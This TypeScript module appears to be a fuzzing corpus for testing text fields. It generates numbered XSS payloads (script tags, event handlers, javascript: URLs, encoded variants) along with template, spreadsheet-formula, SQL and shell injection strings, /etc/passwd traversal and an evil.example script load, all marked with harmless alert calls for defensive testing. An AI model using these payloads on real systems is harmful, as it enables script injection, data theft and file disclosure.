/** Text that tries to be more than text: made from places where markup begins and things that would run there, numbered so that what ran can be told. */

/** What a field may hold: what the documents' typeface prints, any signs that are no controls, or anything at all. */
export type Sort = "printable" | "signs" | "anything";

export interface Payload {
  text: string;
  sort: Sort;
}

/** Calls what `trap` lays out in every page. */
const act = (n: number): string => `alert(${n})`;

/** Ways out of where text usually stands. */
const DOORS = ["", "\">", "'>", "-->", "</textarea>", "</title>", "</script>", "]]>", "`>", "</style>", "</option></select>"];

/** Elements that run something by themselves. */
const TAGS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src=x/onerror=${run}//`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<math><mtext><img src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src=javascript:${run}>`,
  (run) => `<object data=javascript:${run}>`,
  (run) => `<embed src=javascript:${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  (run) => `<form action="javascript:${run}"><button>x`,
  (run) => `<style>@import "javascript:${run}";</style>`,
  (run) => `<style>*{color:red!important}</style><!--${run}`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];
/** Attributes that would run where text stands in one. */
const EVENTS = ["onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart", "onbeforetoggle", "oninput", "onscroll", "onwheel", "formaction", "style", "srcdoc"];
const QUOTES = ["\"", "'", "`", " "];
/** Addresses that would run where text stands in one. */
const ADDRESSES: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`, (run) => `JaVaScRiPt:${run}`, (run) => ` javascript:${run}`, (run) => `javascript://%0a${run}`, (run) => `javascript&colon;${run}`,
  (run) => `data:text/html,<script>${run}</script>`, (run) => `vbscript:${run}`, (run) => `view-source:javascript:${run}`, () => "//evil.example/x.js", () => "\\\\evil.example\\x",
  () => "https://evil.example/#\"><svg>", () => "file:///etc/passwd", () => "../../../../etc/passwd", () => "%2e%2e%2f%2e%2e%2fconsole/", () => "%E0%A4%A", () => "#/cases/%", () => "?x=<svg>",
];
/** Spellings of `<`, `>` and quotes that somebody might undo once too often. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (text) => text.replaceAll("<", "&#x3C").replaceAll(">", "&#x3E"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "%253C").replaceAll(">", "%253E"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
];
/** What templates, formats, queries and spreadsheets would act upon, our own texts' `{name}` among them. */
const TEMPLATES: readonly ((run: string) => string)[] = [
  (run) => `{{${run}}}`, (run) => `{{constructor.constructor('${run}')()}}`, (run) => `\${${run}}`, (run) => `<%= ${run} %>`, (run) => `#{${run}}`, (run) => `[[${run}]]`,
  (run) => `{%${run}%}`, (run) => `@{${run}}`, (run) => `{{{${run}}}}`, (run) => `<!--#exec cmd="${run}"-->`, (run) => `<?php ${run} ?>`, (run) => `*{${run}}`,
  () => "{name}", () => "{n} {number} {time}", () => "$1 $& $` $'", () => "%s %n %d %p", () => "__proto__", () => "constructor", () => "[object Object]", () => "undefined", () => "null",
  () => "=HYPERLINK(\"//evil.example\")", () => "+cmd|' /C calc'!A0", () => "@SUM(1+1)", () => "' or 1=1 --", () => "\"; drop table cases; --", () => "$(id)", () => "`id`", () => "| id", () => "LoremIpsum\\",
];
/** Signs that change how text around them is read. */
const SIGNS: readonly ((text: string) => string)[] = [
  (text) => `\u202e${text}`, (text) => `\u2066${text}\u2069`, (text) => `\u200f${text}`, (text) => `مرحبا ${text}`, (text) => `שלום ${text}`,
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"), (text) => text.replace("<", "<\u200b"), (text) => text.replace("<", "\u2028<"), (text) => `\ufeff${text}`,
  (text) => `👩‍⚖️${text}`, (text) => `Z${"\u0335\u0321\u0489".repeat(9)}${text}`, (text) => text.replaceAll("s", "\u017f"),
];
const CONTROLS = ["\0", "\b", "\x1b[31m", "\x7f", "\x0b", "\x0c", "\x85"];
/** A word no line can hold. */
const LONG = 900;

function* made(): Generator<Omit<Payload, "text"> & { of: (run: string) => string }> {
  for (const door of DOORS) for (const tag of TAGS) yield { sort: "printable", of: (run) => `${door}${tag(run)}` };
  for (const event of EVENTS) for (const quote of QUOTES) yield { sort: "printable", of: (run) => `x${quote} ${event}=${quote}${run}` };
  for (const address of ADDRESSES) yield { sort: "printable", of: address };
  for (const spell of SPELLINGS) for (const tag of TAGS.slice(0, 6)) yield { sort: "printable", of: (run) => spell(tag(run)) };
  for (const template of TEMPLATES) yield { sort: "printable", of: template };
  for (const sign of SIGNS) for (const tag of TAGS.slice(0, 7)) yield { sort: "signs", of: (run) => sign(tag(run)) };
  for (const control of CONTROLS) for (const tag of TAGS.slice(0, 3)) yield { sort: "anything", of: (run) => tag(run).replace("<", `<${control}`) };
  yield { sort: "printable", of: (run) => `${"Ұ".repeat(LONG)}<img src=x onerror=${run}>` };
  yield { sort: "printable", of: (run) => `${"<b>".repeat(LONG / 3)}${run}` };
}

/** All of them, each once. */
export const PAYLOADS: readonly Payload[] = [...made()].map(({ sort, of }, n) => ({ sort, text: of(act(n)).trim() }));

const RANK: Record<Sort, number> = { printable: 0, signs: 1, anything: 2 };

/** Packed into texts of a length, for fields that hold so much and such signs; each payload whole, a payload that is longer than the field left out. */
export function packed(most: number, sort: Sort = "printable", between = " \n"): string[] {
  const texts: string[] = [];
  let open = "";
  for (const payload of PAYLOADS) {
    if (RANK[payload.sort] > RANK[sort] || [...payload.text].length > most) continue;
    const longer = open === "" ? payload.text : `${open}${between}${payload.text}`;
    if ([...longer].length <= most) open = longer;
    else {
      texts.push(open);
      open = payload.text;
    }
  }
  return open === "" ? texts : [...texts, open];
}

/** One after the other, for fields of one line; begins anew when all were given. */
export function* each(most: number, sort: Sort = "printable"): Generator<string, never> {
  const texts = packed(most, sort, " ");
  for (let at = 0; ; at += 1) yield texts[at % texts.length] ?? "";
}
